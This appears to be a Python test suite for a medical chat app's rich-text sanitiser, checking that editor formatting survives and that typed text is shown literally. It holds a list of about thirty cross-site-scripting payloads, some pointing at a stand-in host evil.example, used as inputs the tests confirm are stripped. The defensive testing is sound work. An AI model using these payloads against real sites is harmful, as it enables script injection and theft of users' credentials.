"""Formatted text: what an editor stored is shown with its formatting and nothing else, what a person typed as typed."""

import html
import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from medichat.rich_text import TAGS, as_html, as_text, cleaned, is_html

EDITOR = (
    '<h2>Plan</h2><p>Rest &amp; drink, <strong>2 litres</strong> a day.</p>'
    '<ol><li>Ibuprofen 200&nbsp;mg</li><li><p>Ice</p></li></ol><ul><li class="ql-indent-1">Call if &gt;38 C</li></ul>'
)  # fmt: skip
# Ways in which a script, a style or an address gets into a page; all of our own writing.
ATTACKS = {
    "script": "<p>a</p><script>alert(1)</script>",
    "script-of-elsewhere": "<p>a</p><script src=//evil.example/x.js></script>",
    "upper-case": "<p>a</p><ScRiPt>alert(1)</sCrIpT>",
    "never-closed": "<p>a</p><script>alert(1)",
    "nested": "<p>a</p><scr<script>ipt>alert(1)</scr</script>ipt>",
    "picture": "<p>a</p><img src=x onerror=alert(1)>",
    "picture-without-blank": "<p>a</p><img/src=x/onerror=alert(1)>",
    "vector": "<p>a</p><svg onload=alert(1)><circle/></svg>",
    "vector-script": "<p>a</p><svg><script>alert(1)</script></svg>",
    "mathematics": '<p>a</p><math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    "link": '<p><a href="javascript:alert(1)">a</a></p>',
    "link-in-figures": '<p><a href="&#106;avascript:alert(1)">a</a></p>',
    "link-with-tab": '<p><a href="java\tscript:alert(1)">a</a></p>',
    "data": '<p><a href="data:text/html;base64,PHNjcmlwdD4=">a</a></p>',
    "frame": '<p>a</p><iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": "<p>a</p><object data=x></object><embed src=x>",
    "form": '<p>a</p><form action="https://evil.example"><input name=password><button>Go</button></form>',
    "style": "<p>a</p><style>body{background:url(//evil.example)}</style>",
    "style-attribute": '<p style="position:fixed;inset:0">a</p>',
    "event": '<p onclick="alert(1)" onmouseover=alert(1)>a</p>',
    "refresh": '<p>a</p><meta http-equiv="refresh" content="0;url=//evil.example">',
    "base": '<p>a</p><base href="//evil.example/">',
    "comment": "<p>a</p><!--><script>alert(1)</script>-->",
    "conditional": "<p>a</p><!--[if IE]><script>alert(1)</script><![endif]-->",
    "cdata": "<p>a</p><![CDATA[<script>alert(1)</script>]]>",
    "template": "<p>a</p><template><script>alert(1)</script></template>",
    "noscript": '<p>a</p><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "textarea": "<p>a</p><textarea></textarea><script>alert(1)</script>",
    "quotes": "<p title='\"><script>alert(1)</script>'>a</p>",
    "nul": "<p>a</p><scr\0ipt>alert(1)</scr\0ipt>",
    "htmx": '<p hx-get="/account/sign-out/" hx-trigger="load" data-hx-on:load="alert(1)">a</p>',
    "escaped-twice": "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
}


class Looked(HTMLParser):
    """What a browser would find."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [name for name, _value in attrs]


def looked_at(html: str) -> Looked:
    parser = Looked()
    parser.feed(html)
    parser.close()
    return parser


def test_the_formatting_of_an_editor_stays() -> None:
    assert as_html(EDITOR) == (
        "<h3>Plan</h3><p>Rest &amp; drink, <strong>2 litres</strong> a day.</p>"
        "<ol><li>Ibuprofen 200&nbsp;mg</li><li><p>Ice</p></li></ol><ul><li>Call if &gt;38 C</li></ul>"
    )


def test_on_paper_it_has_lines() -> None:
    assert as_text(EDITOR) == ("Plan\nRest & drink, 2 litres a day.\n1. Ibuprofen 200\xa0mg\n2. Ice\n- Call if >38 C")


@pytest.mark.parametrize(
    "typed",
    [
        "Temperature <38 and >36",
        "INR a <b and c> d",
        "if x<y and y>z",
        "<5 mg daily",
        "Take 2 < 3",
        "<script>alert(1)</script>",
        "<p",
        "a <- b -> c",
        "Rest.\nCool it.\n<b>Never</b> heat it.",
        "mail <ana@example.org>",
        "",
    ],
)
def test_what_a_person_typed_is_shown_as_typed(typed: str) -> None:
    assert not is_html(typed)
    assert cleaned(typed) == typed
    assert as_text(typed) == typed
    shown = looked_at(as_html(typed))
    assert shown.tags <= {"p", "br"}
    assert html.unescape(re.sub(r"</?p>|<br>|\n", "", as_html(typed))) == typed.replace("\n", "").strip()


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_nothing_but_formatting_reaches_the_page(attack: str) -> None:
    for shown in (as_html(attack), as_html(cleaned(attack)), cleaned(attack)):
        found = looked_at(shown)
        assert found.tags <= TAGS
        assert found.attributes == []
        assert "<!--" not in shown
    assert as_html(cleaned(attack)) == as_html(attack)
    assert "a" in as_text(attack)


@pytest.mark.parametrize(
    ("stored", "words"),
    [
        ("<p>BP <90 means: call.</p>", "BP <90 means: call."),
        ("<p>dose <x mg, then y> z</p>", "dose <x mg, then y> z"),
        ("<p>a < b</p>", "a < b"),
        ("<table><tr><td>Ibuprofen</td><td>200 mg</td></tr><tr><td>Ice</td></tr></table>", "Ibuprofen 200 mg\nIce"),
        ("<div>One</div><div>Two</div>", "One\nTwo"),
        ("One<br>Two<br/>Three", "One\nTwo\nThree"),
        ("<ul><li>One<ul><li>Within</li></ul></li><li>Two</li></ul>", "- One\n- Within\n- Two"),
    ],
)
def test_no_words_are_lost_between_the_tags(stored: str, words: str) -> None:
    assert as_text(stored) == words


@pytest.mark.parametrize("empty", ["<p></p>", "<p><br></p>", "<p> </p><ul></ul>", None, ""])
def test_an_editor_left_empty_is_nothing(empty: str | None) -> None:
    assert as_html(empty) == ""
    assert as_text(empty).strip() == ""


PIECES = st.sampled_from(
    [*ATTACKS.values(), "<p>", "</p>", "<", ">", "&lt;", '"', "'", "<svg>", "</style>", "<!--", "-->", "]]>", "\0", "é"]
)
WILD = st.lists(PIECES | st.text(max_size=20), max_size=8).map("".join)


@given(WILD)
def test_whatever_was_stored_the_page_gets_formatting_only(text: str) -> None:
    shown = as_html(text)
    found = looked_at(shown)
    assert found.tags <= TAGS
    assert found.attributes == []


@given(WILD)
def test_cleaning_twice_is_cleaning_once(text: str) -> None:
    assert cleaned(cleaned(text)) == cleaned(text)
    assert as_html(cleaned(text)) == as_html(text)


@given(st.text(alphabet=st.characters(exclude_characters="<>", exclude_categories=["Cs", "Cc"])))
def test_words_without_signs_stay_the_same(text: str) -> None:
    assert as_text(text) == cleaned(text) == text
